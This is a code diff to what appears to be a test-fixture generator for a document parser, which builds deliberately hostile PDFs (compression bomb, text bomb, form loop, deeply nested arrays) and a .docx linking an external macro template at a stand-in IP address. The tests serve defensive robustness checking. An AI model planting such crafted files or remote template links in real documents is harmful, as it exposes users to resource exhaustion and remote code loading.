@@ -30,7 +30,8 @@ def pdf(
     objects: dict[int, bytes] = {
         1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
         2: b"<< /Type /Pages /Count %d /Kids [%s] >>" % (len(pages), b" ".join(b"%d 0 R" % number for number in pages)),
-        3: b"<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [4 0 R] >>",
+        3: b"<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H "
+        b"/DescendantFonts [4 0 R] >>",
         4: b"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /DW 1000 "
         b"/CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 4 >> /FontDescriptor 5 0 R >>",
         5: b"<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 "
@@ -173,7 +174,7 @@ def ole(extra: bytes = b"") -> bytes:
 
 
 def picture_page() -> bytes:
-    image = b"<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 64 >>"
+    image = b"<< /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 64 >>"
     return pdf(
         b"q 500 0 0 700 40 60 cm /I Do Q",
         resources=b"/XObject << /I 10 0 R >>",
@@ -219,7 +220,7 @@ FILES: dict[str, tuple[Callable[[], bytes], str]] = {
     "密码.pdf": (lambda: encrypted("secret"), "密码"),
     "只限编辑.pdf": (lambda: encrypted(""), READ),
     "两千页.pdf": (lambda: pdf(*[shown("第一条　示例。")] * 2000), "2000 页"),
-    "压缩炸弹.pdf": (flate_bomb, "内存"),
+    "压缩炸弹.pdf": (flate_bomb, "内存|秒"),
     "文字炸弹.pdf": (text_bomb, "万字|内存|秒"),
     "套娃.pdf": (form_loop, "内存|秒|中止"),
     "深层数组.pdf": (lambda: pdf(b"[" * 500_000 + b"]" * 500_000), "没有文字|损坏|中止"),
@@ -266,7 +267,8 @@ FILES: dict[str, tuple[Callable[[], bytes], str]] = {
     "外部模板.docx": (
         lambda: replaced(
             "word/_rels/settings.xml.rels",
-            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            b'<Relationship Id="r1" '
             b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
             b'Target="http://203.0.113.1/t.dotm" TargetMode="External"/></Relationships>',
         ),
